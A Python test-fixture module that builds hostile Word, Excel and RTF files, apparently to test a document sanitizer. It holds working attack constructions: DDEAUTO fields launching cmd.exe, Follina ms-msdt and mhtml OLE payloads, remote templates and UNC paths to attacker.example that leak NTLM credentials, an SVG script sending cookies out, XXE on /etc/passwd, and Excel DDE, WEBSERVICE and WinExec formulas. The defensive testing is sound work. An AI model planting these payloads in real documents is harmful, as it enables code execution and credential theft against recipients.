@@ -1,0 +1,850 @@
+"""Hostile Word, Excel and PowerPoint packages.
+
+Benign bases come from python-docx, openpyxl, python-pptx (tests/office_builders.py) and
+LibreOffice; each attack is then planted with zipfile text edits, the way maldoc builder
+kits do it. Section numbers are ECMA-376 5th edition Part 1 unless said otherwise.
+"""
+
+from __future__ import annotations
+
+import html
+import re
+from pathlib import Path, PurePosixPath
+
+from tests import office_builders as base
+from tests.attacks.builders import Expect, sample
+
+RT = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
+MS_RT = "http://schemas.microsoft.com/office/2006/relationships/"
+W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
+DOCUMENT_RELS = "word/_rels/document.xml.rels"
+SETTINGS_RELS = "word/_rels/settings.xml.rels"
+SHEET = "xl/worksheets/sheet1.xml"
+SLIDE = "ppt/slides/slide1.xml"
+SLIDE_RELS = "ppt/slides/_rels/slide1.xml.rels"
+CALC = r"c:\\windows\\system32\\cmd.exe"
+DDEAUTO = f'DDEAUTO {CALC} "/k calc.exe"'
+MSDT = (
+    "ms-msdt:/id PCWDiagnostic /skip force /param \"IT_RebrowseForFile=? IT_LaunchMethod=ContextMenu "
+    "IT_BrowseForFile=$(calc)i/../../../../../../../../../../../../../Windows/System32/mpsigstub.exe\""
+)
+MHTML = "mhtml:http://attacker.example/ole.html!x-usc:http://attacker.example/ole.html"
+SVG_SCRIPT = (
+    '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" onload="alert(1)">'
+    "<script>fetch('http://attacker.example/'+document.cookie)</script></svg>"
+)
+HTML_SCRIPT = "<html><body><p>お知らせ</p><script>new ActiveXObject('WScript.Shell').Run('calc')</script></body></html>"
+
+
+# ---------------------------------------------------------------- Word helpers
+def _docx() -> base.Package:
+    return base.Package(base.docx_bytes())
+
+
+def _run(text: str) -> str:
+    return f'<w:r><w:t xml:space="preserve">{html.escape(text)}</w:t></w:r>'
+
+
+def _simple_field(instruction: str, result: str = "見積書") -> str:
+    return f'<w:fldSimple w:instr="{html.escape(instruction)}">{_run(result)}</w:fldSimple>'
+
+
+def _complex_field(instruction_runs: list[str], result: str = "見積書") -> str:
+    """§17.16.18: fldChar begin, instrText runs, fldChar separate, result, fldChar end."""
+    instructions = "".join(
+        piece if piece.startswith("<") else f'<w:r><w:instrText xml:space="preserve">{html.escape(piece)}</w:instrText></w:r>'
+        for piece in instruction_runs
+    )
+    return (
+        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
+        + instructions
+        + '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
+        + _run(result)
+        + '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
+    )
+
+
+def _word_with(body: str) -> bytes:
+    package = _docx()
+    package.body_append(f"<w:p>{body}</w:p>")
+    return package.bytes()
+
+
+def _add_part(package: base.Package, part: str, data: bytes | str, content_type: str,
+              rels: str, rel_id: str, rel_type: str) -> None:
+    """A new part, its content type and the relationship that reaches it (target relative to `rels`' owner)."""
+    package.put(part, data)
+    package.content_type("/" + part, content_type)
+    owner = PurePosixPath(rels).parent.parent
+    package.add_rel(rels, rel_id, rel_type, str(PurePosixPath(part).relative_to(owner)) if str(owner) != "." else part)
+
+
+def _word_rel_element(rel_type: str, target: str, element: str, external: bool = True) -> bytes:
+    package = _docx()
+    package.add_rel(DOCUMENT_RELS, "rIdAtk", rel_type, target, external)
+    package.body_append(element)
+    return package.bytes()
+
+
+# ---------------------------------------------------------------- Word: controls
+@sample("docx_benign", ".docx", "control", "python-docx document with a picture", Expect.RELEASED)
+def docx_benign(work: Path) -> bytes:
+    return base.docx_bytes()
+
+
+@sample(
+    "docx_harmless_fields", ".docx", "control",
+    "§17.16.5: PAGE, DATE and an https HYPERLINK field are everyday fields", Expect.RELEASED,
+)
+def docx_harmless_fields(work: Path) -> bytes:
+    return _word_with(
+        _simple_field("PAGE", "1")
+        + _complex_field([" DATE \\@ \"yyyy/MM/dd\" "], "2026/11/28")
+        + _complex_field([' HYPERLINK "https://www.city.example.lg.jp/" '], "市のサイト")
+    )
+
+
+@sample("docx_libreoffice_dde", ".docx", "dde-field", "LibreOffice-written docx; SensePost 2017 DDEAUTO")
+def docx_libreoffice_dde(work: Path) -> bytes:
+    source = work / "lo_base.rtf"
+    source.write_bytes(b"{\\rtf1\\ansi\\deff0{\\fonttbl{\\f0 Times;}}\\pard \\u33883?\\u20986?\\u27809? memo\\par}")
+    package = base.Package(base.libreoffice(work, source, "docx:MS Word 2007 XML").read_bytes())
+    text = package.text("word/document.xml")
+    field = f"<w:p>{_simple_field(DDEAUTO)}</w:p>"
+    head, tail = text.rsplit("<w:sectPr", 1)
+    package.put("word/document.xml", head + field + "<w:sectPr" + tail)
+    return package.bytes()
+
+
+# ---------------------------------------------------------------- Word: DDE and fields
+@sample("docx_ddeauto_fldsimple", ".docx", "dde-field", "SensePost 2017 'Macro-less code exec in MSWord'; §17.16.5.13")
+def docx_ddeauto_fldsimple(work: Path) -> bytes:
+    return _word_with(_simple_field(DDEAUTO))
+
+
+@sample("docx_dde_split_runs", ".docx", "dde-field", "§17.16.18 complex field; instruction split over runs")
+def docx_dde_split_runs(work: Path) -> bytes:
+    return _word_with(_complex_field(["DD", "EAUTO ", CALC, ' "/k calc.exe"']))
+
+
+@sample("docx_dde_lowercase", ".docx", "dde-field", "§17.16.1: field names are case-insensitive")
+def docx_dde_lowercase(work: Path) -> bytes:
+    return _word_with(_complex_field([f"  dde {CALC} \"/c calc.exe\" "]))
+
+
+@sample("docx_dde_charrefs", ".docx", "dde-field", "XML 1.0 §4.1 character references in instr")
+def docx_dde_charrefs(work: Path) -> bytes:
+    package = _docx()
+    field = '<w:p><w:fldSimple w:instr="&#68;&#68;&#69;AUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot;">' \
+        + _run("x") + "</w:fldSimple></w:p>"
+    package.body_append(field)
+    return package.bytes()
+
+
+@sample("docx_several_fields_one_paragraph", ".docx", "dde-field", "§17.16: fields are runs; a paragraph may hold many")
+def docx_several_fields_one_paragraph(work: Path) -> bytes:
+    return _word_with(
+        _simple_field("PAGE", "1") + _run(" / ") + _complex_field([DDEAUTO])
+        + _complex_field([" NUMPAGES "], "3")
+    )
+
+
+@sample("docx_nested_quote_builds_dde", ".docx", "dde-field", "§17.16.5.51 QUOTE; nested fields build the keyword (Sophos 2017)")
+def docx_nested_quote_builds_dde(work: Path) -> bytes:
+    inner = _complex_field([" QUOTE 68 68 69 65 85 84 79 "], "DDEAUTO")
+    return _word_with(_complex_field([inner, f" {CALC} \"/k calc\" "]))
+
+
+@sample("docx_dde_nested_in_if", ".docx", "dde-field", "§17.16.5.29 IF with a nested DDEAUTO in its true text")
+def docx_dde_nested_in_if(work: Path) -> bytes:
+    inner = _complex_field([DDEAUTO])
+    return _word_with(_complex_field([" IF 1 = 1 \"", inner, "\" \"\" "]))
+
+
+@sample("docx_dde_in_header", ".docx", "dde-field", "§17.10.4 header part; fields run there too")
+def docx_dde_in_header(work: Path) -> bytes:
+    package = _docx()
+    header = (
+        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:hdr xmlns:w="{W_NS}">'
+        f"<w:p>{_simple_field(DDEAUTO)}</w:p></w:hdr>"
+    )
+    _add_part(package, "word/header9.xml", header, "application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml",
+              DOCUMENT_RELS, "rIdHdr9", RT + "header")
+    text = package.text("word/document.xml")
+    reference = '<w:headerReference w:type="default" r:id="rIdHdr9"/>'
+    package.put("word/document.xml", re.sub(r"(<w:sectPr[^>]*>)", lambda m: m.group(1) + reference, text, count=1))
+    return package.bytes()
+
+
+@sample("docx_includepicture_http", ".docx", "remote-field", "§17.16.5.33 INCLUDEPICTURE; web bug / NTLM leak write-ups")
+def docx_includepicture_http(work: Path) -> bytes:
+    return _word_with(_simple_field('INCLUDEPICTURE "http://attacker.example/track.png" \\d'))
+
+
+@sample("docx_includepicture_unc", ".docx", "remote-field", "§17.16.5.33; UNC path leaks NTLM hashes (Pentestlab 2017)")
+def docx_includepicture_unc(work: Path) -> bytes:
+    return _word_with(_complex_field(['INCLUDEPICTURE "\\\\\\\\attacker.example\\\\share\\\\a.png" \\d \\* MERGEFORMAT']))
+
+
+@sample("docx_includetext_unc", ".docx", "remote-field", "§17.16.5.34 INCLUDETEXT")
+def docx_includetext_unc(work: Path) -> bytes:
+    return _word_with(_simple_field('INCLUDETEXT "\\\\\\\\attacker.example\\\\share\\\\payload.docx"'))
+
+
+@sample("docx_link_field", ".docx", "remote-field", "§17.16.5.36 LINK to an OLE server with a UNC source")
+def docx_link_field(work: Path) -> bytes:
+    return _word_with(_simple_field('LINK Excel.Sheet.8 "\\\\\\\\attacker.example\\\\s\\\\book.xls" "Sheet1!R1C1" \\a \\p'))
+
+
+def _hyperlink_field_sample(name: str, target: str, note: str) -> None:
+    @sample(name, ".docx", "hyperlink-field", note)
+    def build(work: Path) -> bytes:
+        return _word_with(_complex_field([f' HYPERLINK "{target}" '], "請求書を開く"))
+
+
+_hyperlink_field_sample("docx_hyperlink_field_file", "file:///C:/Windows/System32/calc.exe", "§17.16.5.32 HYPERLINK to file:")
+_hyperlink_field_sample("docx_hyperlink_field_unc", "\\\\\\\\attacker.example\\\\share\\\\x.exe", "§17.16.5.32 HYPERLINK to UNC")
+_hyperlink_field_sample("docx_hyperlink_field_msmsdt", MSDT.replace('"', "'"), "Follina CVE-2022-30190 ms-msdt: scheme")
+_hyperlink_field_sample(
+    "docx_hyperlink_field_searchms",
+    "search-ms:query=invoice&crumb=location:\\\\\\\\attacker.example@80\\\\share",
+    "search-ms: URI abuse (Hacker House / Trellix 2022)",
+)
+
+
+@sample("docx_hyperlink_rel_file", ".docx", "external-relationship", "§17.16.22 hyperlink with an external file: relationship")
+def docx_hyperlink_rel_file(work: Path) -> bytes:
+    return _word_rel_element(
+        RT + "hyperlink", "file:///C:/Windows/System32/calc.exe",
+        '<w:p><w:hyperlink r:id="rIdAtk">' + _run("開く") + "</w:hyperlink></w:p>",
+    )
+
+
+@sample("docx_hyperlink_rel_msmsdt", ".docx", "external-relationship", "Follina CVE-2022-30190: ms-msdt: as a link target")
+def docx_hyperlink_rel_msmsdt(work: Path) -> bytes:
+    return _word_rel_element(
+        RT + "hyperlink", html.escape(MSDT),
+        '<w:p><w:hyperlink r:id="rIdAtk">' + _run("詳細") + "</w:hyperlink></w:p>",
+    )
+
+
+# ---------------------------------------------------------------- Word: templates, OLE, frames
+@sample("docx_remote_template_http", ".docx", "remote-template", "§17.15.1.6 attachedTemplate; template injection (Cisco Talos 2017)")
+def docx_remote_template_http(work: Path) -> bytes:
+    return _remote_template("http://attacker.example/t.dotm")
+
+
+@sample("docx_remote_template_unc", ".docx", "remote-template", "§17.15.1.6 attachedTemplate over SMB (NTLM leak)")
+def docx_remote_template_unc(work: Path) -> bytes:
+    return _remote_template("\\\\attacker.example\\share\\t.dotm")
+
+
+def _remote_template(target: str, rel_type: str = RT + "attachedTemplate") -> bytes:
+    package = _docx()
+    package.add_rel(SETTINGS_RELS, "rIdTpl", rel_type, html.escape(target), external=True)
+    settings = package.text("word/settings.xml")
+    settings = re.sub(r"(<w:settings[^>]*>)", r'\1<w:attachedTemplate r:id="rIdTpl"/>', settings, count=1)
+    if 'xmlns:r="' not in settings.split(">", 2)[1]:
+        settings = settings.replace("<w:settings ", f'<w:settings xmlns:r="{RT[:-1]}" ', 1)
+    package.put("word/settings.xml", settings)
+    return package.bytes()
+
+
+@sample(
+    "docx_template_via_hyperlink_rel", ".docx", "remote-template",
+    "issue #8 §1: attachedTemplate naming a relationship declared as a hyperlink",
+)
+def docx_template_via_hyperlink_rel(work: Path) -> bytes:
+    return _remote_template("https://attacker.example/t.dotm", RT + "hyperlink")
+
+
+@sample("docx_oleobject_mhtml", ".docx", "external-relationship", "CVE-2021-40444 (MSRC, Sept 2021): external oleObject with mhtml:")
+def docx_oleobject_mhtml(work: Path) -> bytes:
+    return _word_rel_element(
+        RT + "oleObject", html.escape(MHTML),
+        '<w:p><w:r><w:object><o:OLEObject Type="Link" ProgID="htmlfile" ShapeID="_x0000_i1025" '
+        'DrawAspect="Content" r:id="rIdAtk" UpdateMode="OnCall"><o:LinkType>EnhancedMetaFile</o:LinkType>'
+        "<o:LockedField>false</o:LockedField></o:OLEObject></w:object></w:r></w:p>",
+    )
+
+
+@sample("docx_follina_oleobject", ".docx", "external-relationship", "Follina CVE-2022-30190: document.xml.rels oleObject to http ...html!")
+def docx_follina_oleobject(work: Path) -> bytes:
+    return _word_rel_element(
+        RT + "oleObject", "http://attacker.example/index.html!",
+        '<w:p><w:r><w:object><o:OLEObject Type="Link" ProgID="htmlfile" r:id="rIdAtk" UpdateMode="Always"/>'
+        "</w:object></w:r></w:p>",
+    )
+
+
+@sample("docx_frame_websettings", ".docx", "frames", "§17.15.2.13 frameset/frame with an external source (NTLM leak)")
+def docx_frame_websettings(work: Path) -> bytes:
+    package = _docx()
+    package.add_rel("word/_rels/webSettings.xml.rels", "rIdFrame", RT + "frame", "http://attacker.example/frame.docx", True)
+    web = package.text("word/webSettings.xml")
+    if "xmlns:r=" not in web:
+        web = web.replace("<w:webSettings ", f'<w:webSettings xmlns:r="{RT[:-1]}" ', 1)
+    frames = '<w:frameset><w:frame><w:name w:val="f1"/><w:sourceFileName r:id="rIdFrame"/></w:frame></w:frameset>'
+    web = re.sub(r"(<w:webSettings[^>]*?)(/?)>", lambda m: m.group(1) + ">" + frames + ("</w:webSettings>" if m.group(2) else ""), web, count=1)
+    package.put("word/webSettings.xml", web)
+    return package.bytes()
+
+
+@sample("docx_subdocument_unc", ".docx", "frames", "§17.17.2 subDoc: master document pulling a remote part")
+def docx_subdocument_unc(work: Path) -> bytes:
+    return _word_rel_element(RT + "subDocument", "\\\\attacker.example\\share\\sub.docx", '<w:p><w:subDoc r:id="rIdAtk"/></w:p>')
+
+
+def _altchunk(name: str, content_type: str, data: str) -> bytes:
+    package = _docx()
+    package.put(f"word/{name}", data)
+    package.add_rel(DOCUMENT_RELS, "rIdChunk", RT + "aFChunk", name)
+    package.content_type(f"/word/{name}", content_type)
+    package.body_append('<w:altChunk r:id="rIdChunk"/>')
+    return package.bytes()
+
+
+@sample("docx_altchunk_html", ".docx", "altchunk", "§17.17.1.1 altChunk importing HTML with script")
+def docx_altchunk_html(work: Path) -> bytes:
+    return _altchunk("chunk.html", "text/html", HTML_SCRIPT)
+
+
+@sample("docx_altchunk_mht", ".docx", "altchunk", "§17.17.1.1 altChunk importing MHT (message/rfc822)")
+def docx_altchunk_mht(work: Path) -> bytes:
+    mht = (
+        "MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=\"b\"\r\n\r\n--b\r\n"
+        "Content-Type: text/html\r\nContent-Location: file:///C:/a.htm\r\n\r\n" + HTML_SCRIPT + "\r\n--b--\r\n"
+    )
+    return _altchunk("chunk.mht", "message/rfc822", mht)
+
+
+@sample("docx_customui_onload", ".docx", "customui", "[MS-CUSTOMUI] §2.3 customUI onLoad callback calling a macro")
+def docx_customui_onload(work: Path) -> bytes:
+    return _with_customui(_docx())
+
+
+def _with_customui(package: base.Package) -> bytes:
+    package.put(
+        "customUI/customUI14.xml",
+        '<customUI xmlns="http://schemas.microsoft.com/office/2009/07/customui" onLoad="AutoRun">'
+        '<ribbon><tabs><tab id="t" label="x"><group id="g" label="g"><button id="b" label="b" onAction="Run"/>'
+        "</group></tab></tabs></ribbon></customUI>",
+    )
+    package.add_rel("_rels/.rels", "rIdUi", "http://schemas.microsoft.com/office/2007/relationships/ui/extensibility",
+                    "customUI/customUI14.xml")
+    return package.bytes()
+
+
+def _vba_everywhere(package: base.Package, folder: str, rels: str, main_old: str, main_new: str) -> bytes:
+    """[MS-OFFMACRO] §2.2: vbaProject part, its vbaData and key-map customisations."""
+    package.put(f"{folder}/vbaProject.bin", base.real_vba_project())
+    package.add_rel(rels, "rIdVba", MS_RT + "vbaProject", "vbaProject.bin")
+    package.content_type(f"/{folder}/vbaProject.bin", "application/vnd.ms-office.vbaProject")
+    package.main_type(main_old, main_new)
+    return package.bytes()
+
+
+@sample("docm_vba", ".docm", "macros", "[MS-OFFMACRO] §2.2.1 vbaProject part of a macro-enabled document")
+def docm_vba(work: Path) -> bytes:
+    return _vba_everywhere(_docx(), "word", DOCUMENT_RELS, base.DOCX_MAIN, base.DOCM_MAIN)
+
+
+@sample("docx_vba_in_docx", ".docx", "macros", "[MS-OFFMACRO] vbaProject inside a package typed as macro-free")
+def docx_vba_in_docx(work: Path) -> bytes:
+    package = _docx()
+    _add_part(package, "word/vbaProject.bin", base.real_vba_project(), "application/vnd.ms-office.vbaProject",
+              DOCUMENT_RELS, "rIdVba", MS_RT + "vbaProject")
+    package.put("word/vbaData.xml", '<wne:vbaSuppData xmlns:wne="http://schemas.microsoft.com/office/word/2006/wordml"/>')
+    package.content_type("/word/vbaData.xml", "application/vnd.ms-word.vbaData+xml")
+    return package.bytes()
+
+
+@sample("docx_vba_disguised_as_png", ".docx", "macros", "OPC §10.1.2: the content type, not the name, says what a part is")
+def docx_vba_disguised_as_png(work: Path) -> bytes:
+    package = _docx()
+    _add_part(package, "word/media/logo.png", base.real_vba_project(), "application/vnd.ms-office.vbaProject",
+              DOCUMENT_RELS, "rIdVba", MS_RT + "vbaProject")
+    return package.bytes()
+
+
+@sample("docx_keymap_customizations", ".docx", "macros", "[MS-DOCX] keyMapCustomizations binding keys to macros")
+def docx_keymap_customizations(work: Path) -> bytes:
+    package = _docx()
+    keymap = (
+        '<wne:tcg xmlns:wne="http://schemas.microsoft.com/office/word/2006/wordml"><wne:keymaps>'
+        '<wne:keymap wne:kcmPrimary="0441"><wne:macro wne:macroName="PROJECT.MODULE1.AUTOOPEN"/></wne:keymap>'
+        "</wne:keymaps></wne:tcg>"
+    )
+    _add_part(package, "word/customizations.xml", keymap, "application/vnd.ms-word.keyMapCustomizations+xml",
+              DOCUMENT_RELS, "rIdKeys", MS_RT + "keyMapCustomizations")
+    return package.bytes()
+
+
+@sample("docx_activex_control", ".docx", "macros", "[MS-OFORMS] ActiveX control part + w:control (§17.3.3.5)")
+def docx_activex_control(work: Path) -> bytes:
+    package = _docx()
+    control = (
+        '<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" '
+        'ax:classid="{8BD21D40-EC42-11CE-9E0D-00AA006002F3}" ax:persistence="persistStorage" '
+        f'xmlns:r="{RT[:-1]}"/>'
+    )
+    _add_part(package, "word/activeX/activeX1.xml", control, "application/vnd.ms-office.activeX+xml",
+              DOCUMENT_RELS, "rIdAx", RT + "control")
+    package.body_append('<w:p><w:r><w:object><w:control r:id="rIdAx" w:name="TextBox1"/></w:object></w:r></w:p>')
+    return package.bytes()
+
+
+@sample("docx_ole_package_exe", ".docx", "ole-embedding", "[MS-OLEDS] Package (Packager Shell Object) embedding an .exe")
+def docx_ole_package_exe(work: Path) -> bytes:
+    package = _docx()
+    _add_part(package, "word/embeddings/oleObject1.bin", _packager_ole1(),
+              "application/vnd.openxmlformats-officedocument.oleObject", DOCUMENT_RELS, "rIdOle", RT + "oleObject")
+    package.body_append(
+        '<w:p><w:r><w:object><o:OLEObject Type="Embed" ProgID="Package" ShapeID="_x0000_i1026" '
+        'DrawAspect="Icon" ObjectID="_1" r:id="rIdOle"/></w:object></w:r></w:p>'
+    )
+    return package.bytes()
+
+
+def _packager_ole1() -> bytes:
+    # Not a valid CFB on purpose: whatever it is, an embedding must not cross.
+    return b"\x02\x00invoice.exe\x00C:\\Temp\\invoice.exe\x00" + b"MZ\x90\x00" + b"\x00" * 200
+
+
+@sample("docx_mailmerge_datasource", ".docx", "external-relationship", "§17.14.9 mailMerge dataSource to a remote workbook")
+def docx_mailmerge_datasource(work: Path) -> bytes:
+    package = _docx()
+    package.add_rel(SETTINGS_RELS, "rIdMm", RT + "mailMergeSource", "\\\\attacker.example\\share\\list.xlsx", True)
+    settings = package.text("word/settings.xml")
+    if 'xmlns:r="' not in settings.split(">", 2)[1]:
+        settings = settings.replace("<w:settings ", f'<w:settings xmlns:r="{RT[:-1]}" ', 1)
+    merge = (
+        '<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:linkToQuery/><w:dataType w:val="native"/>'
+        '<w:connectString w:val="Provider=Microsoft.ACE.OLEDB.12.0;Data Source=\\\\attacker.example\\share\\list.xlsx"/>'
+        '<w:query w:val="SELECT * FROM `Sheet1$`"/><w:dataSource r:id="rIdMm"/></w:mailMerge>'
+    )
+    settings = re.sub(r"(<w:settings[^>]*>)", r"\1" + merge.replace("\\", "\\\\"), settings, count=1)
+    package.put("word/settings.xml", settings)
+    return package.bytes()
+
+
+@sample("docx_linked_picture_unc", ".docx", "external-relationship", "§20.1.8.13 blip r:link: a picture fetched from a UNC path")
+def docx_linked_picture_unc(work: Path) -> bytes:
+    package = _docx()
+    package.add_rel(DOCUMENT_RELS, "rIdLink", RT + "image", "\\\\attacker.example\\share\\p.png", True)
+    text = package.text("word/document.xml")
+    package.put("word/document.xml", re.sub(r'r:embed="(rId\d+)"', r'r:embed="\1" r:link="rIdLink"', text, count=1))
+    return package.bytes()
+
+
+# ---------------------------------------------------------------- pictures and markup parts
+def _replace_picture(data: bytes, content_type: str, suffix: str) -> bytes:
+    package = _docx()
+    package.put(f"word/media/image1.{suffix}", data)
+    rels = package.text(DOCUMENT_RELS).replace("media/image1.png", f"media/image1.{suffix}")
+    package.put(DOCUMENT_RELS, rels)
+    del package.parts["word/media/image1.png"]
+    package.content_type(f"/word/media/image1.{suffix}", content_type)
+    return package.bytes()
+
+
+@sample("docx_svg_picture_script", ".docx", "markup-part", "§20.1.8.13 + [MS-ODRAWXML] svgBlip: SVG with script")
+def docx_svg_picture_script(work: Path) -> bytes:
+    package = base.Package(_replace_picture(SVG_SCRIPT.encode(), "image/svg+xml", "svg"))
+    return package.bytes()
+
+
+@sample("docx_emf_picture", ".docx", "markup-part", "[MS-EMF] metafile picture (EMR records can carry anything)")
+def docx_emf_picture(work: Path) -> bytes:
+    return _replace_picture(_emf(), "image/x-emf", "emf")
+
+
+@sample("docx_wmf_picture", ".docx", "markup-part", "[MS-WMF] placeable metafile picture with an ESCAPE record")
+def docx_wmf_picture(work: Path) -> bytes:
+    header = bytes.fromhex("d7cdc69a0000000000000a000a00600000000000" + "0000")
+    body = bytes.fromhex("010009000003") + b"\x40\x00\x00\x00" + b"\x00\x00" + b"\x00\x00\x00\x00" + b"\x00\x00"
+    escape = (12).to_bytes(4, "little") + (0x0626).to_bytes(2, "little") + b"<script>x</script>"[:16]
+    return _replace_picture(header + body + escape + b"\x03\x00\x00\x00\x00\x00", "image/x-wmf", "wmf")
+
+
+def _emf() -> bytes:
+    header = bytearray(108)
+    header[0:4] = (1).to_bytes(4, "little")  # EMR_HEADER
+    header[4:8] = (108).to_bytes(4, "little")
+    header[40:44] = b" EMF"
+    header[44:48] = (0x10000).to_bytes(4, "little")
+    comment = b"<script>alert(1)</script>"
+    record = (70).to_bytes(4, "little") + (12 + len(comment)).to_bytes(4, "little") + comment  # EMR_COMMENT
+    eof = (14).to_bytes(4, "little") + (20).to_bytes(4, "little") + b"\x00" * 12
+    return bytes(header) + record + eof
+
+
+@sample("docx_png_that_is_html", ".docx", "markup-part", "OPC: content type image/png over HTML bytes (MIME confusion)")
+def docx_png_that_is_html(work: Path) -> bytes:
+    package = _docx()
+    package.put("word/media/image1.png", HTML_SCRIPT)
+    return package.bytes()
+
+
+@sample("docx_namespace_prefix_trick", ".docx", "prefix-trick", "XML Namespaces §6: the prefix is arbitrary; only the URI counts")
+def docx_namespace_prefix_trick(work: Path) -> bytes:
+    package = _docx()
+    field = (
+        f'<w:p><evil:fldSimple xmlns:evil="{W_NS}" evil:instr="DDEAUTO {CALC} &quot;/k calc&quot;">'
+        f'<x:r xmlns:x="{W_NS}"><x:t>x</x:t></x:r></evil:fldSimple>'
+        f'<w:r><instrText xmlns="{W_NS}">ignored</instrText></w:r></w:p>'
+    )
+    package.body_append(field)
+    return package.bytes()
+
+
+@sample("docx_default_namespace_field", ".docx", "prefix-trick", "XML Namespaces §6.2: a default namespace instead of w:")
+def docx_default_namespace_field(work: Path) -> bytes:
+    package = _docx()
+    package.body_append(
+        f'<p xmlns="{W_NS}"><r><fldChar fldCharType="begin"/></r><r><instrText> DDEAUTO {CALC} "/k calc" </instrText></r>'
+        '<r><fldChar fldCharType="separate"/></r><r><t>x</t></r><r><fldChar fldCharType="end"/></r></p>'
+    )
+    return package.bytes()
+
+
+@sample("docx_doctype_entities", ".docx", "prefix-trick", "XML 1.0 §4.2 internal entities hiding DDEAUTO (and XXE)")
+def docx_doctype_entities(work: Path) -> bytes:
+    package = _docx()
+    text = package.text("word/document.xml")
+    text = text.replace(
+        "<?xml version='1.0' encoding='UTF-8' standalone='yes'?>",
+        '<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE w:document [<!ENTITY d "DDEAUTO">'
+        '<!ENTITY x SYSTEM "file:///etc/passwd">]>',
+        1,
+    )
+    text = text.replace("<w:sectPr", f'<w:p><w:fldSimple w:instr="&d; {CALC} &quot;/k calc&quot;">{_run("x")}</w:fldSimple></w:p><w:sectPr', 1)
+    package.put("word/document.xml", text)
+    return package.bytes()
+
+
+@sample("docx_glossary_dde", ".docx", "dde-field", "§17.12 glossary document: a second story with its own fields")
+def docx_glossary_dde(work: Path) -> bytes:
+    package = _docx()
+    glossary = (
+        f'<w:glossaryDocument xmlns:w="{W_NS}"><w:docParts><w:docPart><w:docPartBody><w:p>'
+        f"{_simple_field(DDEAUTO)}</w:p></w:docPartBody></w:docPart></w:docParts></w:glossaryDocument>"
+    )
+    _add_part(package, "word/glossary/document.xml", glossary,
+              "application/vnd.openxmlformats-officedocument.wordprocessingml.document.glossary+xml",
+              DOCUMENT_RELS, "rIdGl", RT + "glossaryDocument")
+    return package.bytes()
+
+
+# ---------------------------------------------------------------- Legacy formats via LibreOffice / RTF
+@sample("rtf_ddeauto", ".rtf", "dde-field", "RTF 1.9.1 \\field\\fldinst: DDEAUTO in RTF (converted to docx)")
+def rtf_ddeauto(work: Path) -> bytes:
+    return (
+        b"{\\rtf1\\ansi\\deff0{\\fonttbl{\\f0 Times;}}\\pard Invoice \\par"
+        b"{\\field{\\*\\fldinst {DDEAUTO c:\\\\\\\\windows\\\\\\\\system32\\\\\\\\cmd.exe \"/k calc.exe\"}}"
+        b"{\\fldrslt {x}}}\\par"
+        b"{\\field{\\*\\fldinst {INCLUDEPICTURE \"http://attacker.example/t.png\" \\\\d}}{\\fldrslt {y}}}\\par}"
+    )
+
+
+@sample("doc_dde_via_libreoffice", ".doc", "dde-field", "Word 97 binary with a DDEAUTO field (LibreOffice-written)")
+def doc_dde_via_libreoffice(work: Path) -> bytes:
+    source = work / "dde_source.rtf"
+    source.write_bytes(rtf_ddeauto(work))
+    return base.libreoffice(work, source, "doc:MS Word 97").read_bytes()
+
+
+# ---------------------------------------------------------------- Excel
+def _xlsx(formula_cell: str | None = None, workbook_extra: str = "", sheet_extra: str = "") -> base.Package:
+    package = base.Package(base.xlsx_bytes())
+    if formula_cell is not None:
+        package.put(SHEET, package.text(SHEET).replace("<c r=\"B4\"><f>SUM(B2:B3)</f><v></v></c>", formula_cell))
+    if workbook_extra:
+        package.put("xl/workbook.xml", package.text("xl/workbook.xml").replace("<definedNames/>", workbook_extra))
+    if sheet_extra:
+        package.put(SHEET, package.text(SHEET).replace("<pageMargins", sheet_extra + "<pageMargins"))
+    return package
+
+
+@sample("xlsx_benign", ".xlsx", "control", "openpyxl workbook with values and SUM", Expect.RELEASED)
+def xlsx_benign(work: Path) -> bytes:
+    return base.xlsx_bytes()
+
+
+@sample("xlsx_formula_text_is_not_live", ".xlsx", "control",
+        "SpreadsheetML §18.3.1.4: a string cell is text, not a formula", Expect.RELEASED)
+def xlsx_formula_text_is_not_live(work: Path) -> bytes:
+    return _xlsx('<c r="B4" t="inlineStr"><is><t>=cmd|\' /C calc\'!A0</t></is></c>').bytes()
+
+
+def _formula_sample(name: str, formula_xml: str, note: str, attack: str = "dde-formula") -> None:
+    @sample(name, ".xlsx", attack, note)
+    def build(work: Path) -> bytes:
+        return _xlsx(f'<c r="B4">{formula_xml}<v>0</v></c>').bytes()
+
+
+_formula_sample("xlsx_dde_formula", "<f>cmd|' /C calc'!A0</f>", "OWASP CSV/Formula Injection; DDE in a cell formula")
+_formula_sample("xlsx_dde_charref_pipe", "<f>cmd&#124;' /C calc'!A0</f>", "XML §4.1: &#124; is '|'")
+_formula_sample("xlsx_dde_hex_charref", "<f>MSEXCEL&#x7C;'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''</f>",
+                "XML §4.1 hex reference; MSEXCEL| DDE variant (2018 write-ups)")
+_formula_sample("xlsx_dde_in_expression", "<f>-2+3+cmd|' /C calc'!A0</f>", "OWASP: DDE behind arithmetic")
+_formula_sample("xlsx_dde_shared", "<f t=\"shared\" ref=\"B4:B6\" si=\"0\">cmd|' /C calc'!A0</f>",
+                "§18.3.1.40 shared formula master cell")
+_formula_sample("xlsx_dde_array", "<f t=\"array\" ref=\"B4\">cmd|' /C calc'!A0</f>", "§18.3.1.40 array formula")
+_formula_sample("xlsx_webservice", "<f>WEBSERVICE(\"http://attacker.example/?\"&amp;A2)</f>",
+                "Excel WEBSERVICE exfiltration (NotSoSecure 2018)", "dangerous-function")
+_formula_sample("xlsx_call_winexec", "<f>CALL(\"Kernel32\",\"WinExec\",\"JCJ\",\"calc\",0)</f>",
+                "XLM CALL via a cell (Outflank 'Excel 4.0 macros' 2018)", "dangerous-function")
